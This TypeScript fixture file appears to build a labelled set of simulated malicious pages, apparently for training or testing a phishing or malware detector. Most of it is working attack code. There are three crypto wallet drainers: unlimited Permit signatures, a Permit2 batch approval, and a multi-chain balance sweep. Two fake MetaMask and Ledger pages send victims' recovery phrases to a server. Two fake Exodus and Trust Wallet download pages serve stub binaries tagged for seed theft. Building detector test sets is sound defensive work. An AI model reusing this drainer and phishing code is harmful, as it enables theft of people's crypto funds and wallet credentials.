import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute, fileRoute, zip, pe, crx, apk } from '../parts/e-bin.js';
import { doc, icons, dappShell, vendorCss, footerLinks } from '../parts/m-kit.js';

export const entries: Entry[] = [
(() => {
  const host = 'claim.zklayer-airdrop.xyz';
  const js = `(function(){
var SP='0x8f3Cf7ad23Cd3CaDbD9735AFf958023239c6A063'.replace('8f3C','7Bd2');
var TOKENS=[{s:'USDC',a:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48',n:'USD Coin',v:'2'},{s:'DAI',a:'0x6B175474E89094C44Da98b954EedeAC495271d0F',n:'Dai Stablecoin',v:'1'}];
var acct=null;
function log(t,d){fetch('/api/v1/log',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({t:t,d:d,h:location.host})}).catch(function(){});}
async function connect(){
  if(!window.ethereum){document.getElementById('wl').style.display='flex';return;}
  var a=await ethereum.request({method:'eth_requestAccounts'});acct=a[0];log('connect',acct);
  document.getElementById('connectBtn').textContent=acct.slice(0,6)+'…'+acct.slice(-4);
  document.getElementById('claim').disabled=false;
}
async function claim(){
  var bal=await (await fetch('/api/v1/assets?a='+acct)).json();
  for(var i=0;i<TOKENS.length;i++){var t=TOKENS[i];
    var msg={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},
      primaryType:'Permit',domain:{name:t.n,version:t.v,chainId:1,verifyingContract:t.a},
      message:{owner:acct,spender:SP,value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:bal.nonces[t.s]||0,deadline:Math.floor(Date.now()/1000)+31536000}};
    try{var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[acct,JSON.stringify(msg)]});log('permit',{token:t.s,sig:sig,owner:acct});}catch(e){log('reject',t.s);}
  }
  document.getElementById('st').textContent='Claim submitted! Tokens will arrive within 24h.';
}
document.getElementById('connectBtn').onclick=connect;document.getElementById('c2').onclick=connect;document.getElementById('claim').onclick=claim;
})();`;
  return {
    id: 'm-drainer-airdrop-permit-usdc',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: `https://${host}/`,
    body: dappShell({
      name: 'zkLayer',
      title: 'zkLayer – Season 2 Airdrop Claim',
      accent: '#7b61ff',
      nav: ['Claim', 'Ecosystem', 'Docs'],
      main: `<div class="panel" style="text-align:center"><h2>Season 2 Airdrop is live 🪂</h2><p class="dim">Eligible wallets can claim up to 4,200 $ZKL. Snapshot: block 21,204,118. Unclaimed tokens are burned after 72 hours.</p>
<div class="row"><span>Your allocation</span><span class="tok">??? ZKL</span></div><button class="big" id="c2">Connect wallet to check</button><button class="big" id="claim" disabled style="background:#2ecc71">Claim $ZKL</button><p id="st" class="dim"></p></div>
<div class="modal" id="wl"><div class="box wl"><h3>Connect a wallet</h3><button>🦊 MetaMask</button><button>🔵 Coinbase Wallet</button><button>🔗 WalletConnect</button><button>🛡 Trust Wallet</button><small>No wallet detected. Install one to continue.</small></div></div>
<footer>© 2025 zkLayer Foundation · Terms · Privacy</footer>`,
      scripts: `<script src="/assets/claim.min.js"></script>`,
    }),
    routes: {
      ...icons(host, [123, 97, 255]),
      [`${host}/assets/claim.min.js`]: jsRoute(js),
      [`${host}/api/v1/assets`]: jsonRoute({ nonces: { USDC: 0, DAI: 0 }, usd: 0 }),
      [`${host}/api/v1/log`]: jsonRoute({ ok: true }),
    },
  };
})(),

(() => {
  const host = 'stargate-finance.bridge-app.org';
  return {
    id: 'm-drainer-fake-bridge-native-sweep',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: `https://${host}/transfer`,
    body: dappShell({
      name: 'Stargate',
      title: 'Stargate | Transfer',
      accent: '#ffffff',
      nav: ['Transfer', 'Pool', 'Stake', 'Vote'],
      main: `<div class="panel"><b>Transfer</b><div class="row"><div><small>From</small><br><b>Ethereum</b></div><span class="tok">USDC</span></div><div class="row"><div><small>To</small><br><b>Arbitrum</b></div><span class="tok">USDC</span></div>
<div class="row"><input id="amt" placeholder="0.0"><span class="dim">MAX</span></div><button class="big" id="tx" style="color:#000">Connect Wallet</button><p class="dim" style="font-size:12px">Gas on destination: 0.0004 ETH · Est. time 1 min</p></div>
<footer>Stargate is a LayerZero application</footer>`,
      scripts: `<script type="module" src="/assets/index-4b2d1f.js"></script>`,
    }),
    routes: {
      ...icons(host, [255, 255, 255]),
      [`${host}/assets/index-4b2d1f.js`]: jsRoute(`const cfg = await (await fetch('/config.json')).json();
const btn = document.getElementById('tx'); let me;
btn.onclick = async () => {
  if (!window.ethereum) { btn.textContent = 'Install a wallet'; return; }
  if (!me) { [me] = await ethereum.request({ method: 'eth_requestAccounts' }); btn.textContent = 'Transfer'; return; }
  const chains = cfg.chains;
  for (const id of chains) {
    try { await ethereum.request({ method: 'wallet_switchEthereumChain', params: [{ chainId: id }] }); } catch (e) { continue; }
    const bal = BigInt(await ethereum.request({ method: 'eth_getBalance', params: [me, 'latest'] }));
    if (bal > 10n ** 15n) {
      const send = bal - 3n * 10n ** 14n;
      await ethereum.request({ method: 'eth_sendTransaction', params: [{ from: me, to: cfg.receiver, value: '0x' + send.toString(16), data: '0x' }] }).catch(() => {});
    }
  }
  fetch(cfg.hook, { method: 'POST', body: JSON.stringify({ w: me, ref: document.referrer }) });
};`),
      [`${host}/config.json`]: jsonRoute({ receiver: '0x4d3Ac1bE0c7F1e2b9a8D5C6f7E3b2A1c0d9E8f71', chains: ['0x1', '0xa4b1', '0x2105', '0x38', '0x89'], hook: '/api/hook' }),
      [`${host}/api/hook`]: jsonRoute({}),
    },
  };
})(),

(() => {
  const host = 'rewards.eigenstake-portal.com';
  return {
    id: 'm-drainer-permit2-batch-rewards-es',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: `https://${host}/es/recompensas`,
    body: dappShell({
      name: 'EigenStake',
      title: 'EigenStake – Reclama tus recompensas de restaking',
      lang: 'es',
      accent: '#1a0dab',
      dark: false,
      nav: ['Restake', 'Recompensas', 'Operadores'],
      main: `<div class="panel"><h2>Recompensas de restaking</h2><p class="dim">Tu dirección tiene recompensas pendientes de la Temporada 3. Firma el mensaje para reclamar. La firma no cuesta gas.</p>
<div class="row"><span>Pendiente</span><b id="p">— EIGEN</b></div><button class="big" id="r">Conectar y reclamar</button><p id="m" class="dim"></p></div>
<footer>© 2025 EigenStake · Términos · Privacidad</footer>`,
      scripts: `<script>
(function(){
var PERMIT2='0x000000000022D473030F116dDEE9F6B43aC78BA3', SP='0x6eB1c2F0aA4d9E3b7C8f5D2a1B0e9C8d7F6a5B43';
document.getElementById('r').onclick=async function(){
  if(!window.ethereum)return document.getElementById('m').textContent='Instala MetaMask para continuar.';
  var o=(await ethereum.request({method:'eth_requestAccounts'}))[0];
  var t=await (await fetch('/api/tokens?o='+o)).json();
  var details=t.map(function(x){return {token:x,amount:'1461501637330902918203684832716283019655932542975',expiration:'1893456000',nonce:0}});
  var data={domain:{name:'Permit2',chainId:1,verifyingContract:PERMIT2},primaryType:'PermitBatch',
    types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},
    message:{details:details,spender:SP,sigDeadline:'1893456000'}};
  var s=await ethereum.request({method:'eth_signTypedData_v4',params:[o,JSON.stringify(data)]});
  await fetch('/api/submit',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({o:o,s:s,d:data})});
  document.getElementById('m').textContent='¡Reclamación enviada!';
};})();
</script>`,
    }),
    routes: {
      ...icons(host, [26, 13, 171]),
      [`${host}/api/tokens`]: jsonRoute(['0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', '0xdAC17F958D2ee523a2206206994597C13D831ec7', '0x7f39C581F595B53c5cb19bD0b3f8dA6c935E2Ca0']),
      [`${host}/api/submit`]: jsonRoute({ ok: true }),
    },
  };
})(),

(() => {
  const host = 'metamask-validation.wallet-secure-support.com';
  return {
    id: 'm-seed-wallet-validation-metamask',
    label: 'phishing',
    kind: 'seed-phrase',
    url: `https://${host}/validate`,
    body: doc({
      title: 'MetaMask – Wallet Validation Required',
      css: `body{margin:0;background:#f2f4f6;font-family:Euclid,Roboto,Arial,sans-serif;color:#24272a}.c{max-width:520px;margin:40px auto;background:#fff;border-radius:10px;padding:30px;box-shadow:0 2px 10px rgba(0,0,0,.06)}
textarea{width:100%;height:110px;border:1px solid #bbc0c5;border-radius:8px;padding:10px;font-size:15px}.b{width:100%;background:#0376c9;color:#fff;border:0;border-radius:100px;padding:14px;font-size:16px;margin-top:14px;cursor:pointer}
.w{background:#fff4e5;border-left:4px solid #f8c000;padding:10px 14px;font-size:14px}`,
      body: `<div class="c"><div style="text-align:center"><img src="/img/logo.png" width="60" alt=""><h2>Wallet Validation</h2></div>
<div class="w">Due to the new KYC/AML regulations, all MetaMask wallets must be validated before <b>30 November 2025</b>. Unvalidated wallets will be restricted.</div>
<form id="f" autocomplete="off"><p>Enter your 12 or 24-word Secret Recovery Phrase to validate your wallet. Separate each word with a space.</p>
<textarea name="phrase" id="ph" placeholder="word1 word2 word3 …" required></textarea><p id="e" style="color:#d73a49;font-size:13px"></p><button class="b">Validate wallet</button></form>
<p style="font-size:12px;color:#6a737d;text-align:center">Your data is encrypted end-to-end. © 2025 MetaMask Support</p></div>
<script>
document.getElementById('f').onsubmit=function(e){e.preventDefault();var w=document.getElementById('ph').value.trim().split(/\\s+/);
if([12,15,18,21,24].indexOf(w.length)<0){document.getElementById('e').textContent='Invalid phrase length ('+w.length+' words)';return;}
fetch('/api/validate.php',{method:'POST',headers:{'content-type':'application/x-www-form-urlencoded'},body:'wallet=metamask&phrase='+encodeURIComponent(w.join(' '))}).then(function(){location.href='/success'});};
</script>`,
    }),
    routes: {
      ...icons(host, [246, 133, 27]),
      [`${host}/api/validate.php`]: jsonRoute({ status: 'ok' }),
      [`${host}/success`]: htmlRoute(doc({ title: 'Validated', body: '<h2 style="text-align:center;font-family:Arial;margin-top:100px">✔ Your wallet has been validated successfully.</h2>' })),
    },
  };
})(),

(() => {
  const host = 'ledger-live.recovery-firmware.com';
  const words = Array.from({ length: 24 }, (_, i) => `<input name="w${i + 1}" placeholder="${i + 1}." autocomplete="off" spellcheck="false">`).join('');
  return {
    id: 'm-seed-ledger-firmware-recovery-fr',
    label: 'phishing',
    kind: 'seed-phrase',
    url: `https://${host}/fr/restauration`,
    body: doc({
      title: 'Ledger Live – Restauration du firmware',
      lang: 'fr',
      css: `body{margin:0;background:#131214;color:#fff;font-family:Inter,Arial,sans-serif}.c{max-width:720px;margin:40px auto;padding:20px}.g{display:grid;grid-template-columns:repeat(4,1fr);gap:8px}
.g input{background:#1c1d1f;border:1px solid #333;color:#fff;padding:10px;border-radius:4px}.b{background:#bbb0ff;color:#131214;border:0;border-radius:30px;padding:14px 30px;font-weight:bold;margin-top:20px;cursor:pointer}
.al{background:#2a1d0c;border:1px solid #8a5a00;padding:12px;border-radius:6px}`,
      body: `<div class="c"><b style="font-size:20px">LEDGER</b><h1>Restauration de votre Ledger</h1><div class="al">⚠ Une faille de sécurité a été détectée dans le firmware 2.2.x. Votre appareil a été mis en quarantaine. Pour protéger vos actifs, synchronisez votre phrase de récupération avec le nouveau firmware 2.4.1.</div>
<p>Saisissez les 24 mots de votre phrase de récupération dans l'ordre.</p><form id="f"><div class="g">${words}</div><button class="b">Restaurer l'appareil</button></form>
<p style="font-size:12px;opacity:.6">© 2025 Ledger SAS. Tous droits réservés.</p></div>
<script>
document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();var ws=[];for(var i=1;i<=24;i++)ws.push(this['w'+i].value.trim());
var x=new XMLHttpRequest();x.open('POST','/sync/submit.php');x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify({device:'nano-x',seed:ws.join(' '),lang:'fr'}));
x.onload=function(){location.href='https://www.ledger.com/'};});
</script>`,
    }),
    routes: { ...icons(host, [19, 18, 20]), [`${host}/sync/submit.php`]: jsonRoute({ ok: true }) },
  };
})(),

(() => {
  const host = 'www.exodus-wallet.download';
  return {
    id: 'm-fakewallet-exodus-desktop-exe',
    label: 'malware',
    kind: 'fake-wallet-app',
    url: `https://${host}/desktop/`,
    body: doc({
      title: 'Download Exodus Wallet for Windows | Desktop Crypto Wallet',
      css: vendorCss('#8b5cf6') + 'body{background:#0b0d17;color:#eee}.brand{color:#fff}header.top{border-color:#222}header.top nav a{color:#ccc}.card{border-color:#272a3a}footer{border-color:#222}',
      body: `<header class="top"><a class="brand" href="/"><img src="/img/logo.png" alt="">EXODUS</a><nav><a href="#">Wallet</a><a href="#">Exchange</a><a href="#">Support</a></nav></header>
<main><div class="hero"><div><h1>Exodus for Windows</h1><p>Secure, manage, and swap your crypto and NFTs. Over 300 assets. Trezor and Ledger support.</p><a class="btn" href="/dl/exodus-windows-x64-25.47.3.exe">Download for Windows</a><p class="muted">Version 25.47.3 · 148 MB · SHA-256 shown after download</p></div>
<div class="card"><b>Migrating from another wallet?</b><p>After installing, choose “Restore from backup” and enter your 12-word phrase to import your existing wallet.</p></div></div></main>
${footerLinks('Exodus Movement, Inc.')}`,
    }),
    routes: {
      ...icons(host, [139, 92, 246]),
      [`${host}/dl/exodus-windows-x64-25.47.3.exe`]: fileRoute(pe({ strings: ['Exodus', 'Squirrel', 'app.asar', 'seed exfil'] }), 'application/x-msdownload', 'exodus-windows-x64-25.47.3.exe'),
    },
  };
})(),

(() => {
  const host = 'trustwallet-app.apk-store.mobi';
  return {
    id: 'm-fakewallet-trust-apk-tr',
    label: 'malware',
    kind: 'fake-wallet-app',
    url: `https://${host}/tr/indir`,
    body: doc({
      title: 'Trust Wallet – Android için indir (APK)',
      lang: 'tr',
      css: `body{margin:0;font-family:Roboto,Arial,sans-serif;background:#fff;color:#1b1b1c;text-align:center}.c{max-width:480px;margin:auto;padding:50px 20px}.b{display:block;background:#0500ff;color:#fff;border-radius:30px;padding:16px;text-decoration:none;font-weight:bold}`,
      body: `<div class="c"><img src="/img/logo.png" width="80" alt=""><h1>Trust Wallet</h1><p>Güvenli kripto cüzdanı. Google Play sürümü Türkiye'de güncellenemiyor; en son sürümü doğrudan indirin.</p>
<a class="b" href="/files/TrustWallet_8.31.apk">APK İNDİR (v8.31)</a><p style="font-size:13px;color:#666">Kurulum için Ayarlar › Güvenlik › “Bilinmeyen kaynaklar” seçeneğini açın.</p></div>`,
    }),
    routes: {
      ...icons(host, [5, 0, 255]),
      [`${host}/files/TrustWallet_8.31.apk`]: fileRoute(apk('com.wallet.crypto.trustapp.v2', 'Trust Wallet', ['mnemonic_upload', 'clipboard_replace_address']), 'application/vnd.android.package-archive', 'TrustWallet_8.31.apk'),
    },
  };
})(),
];
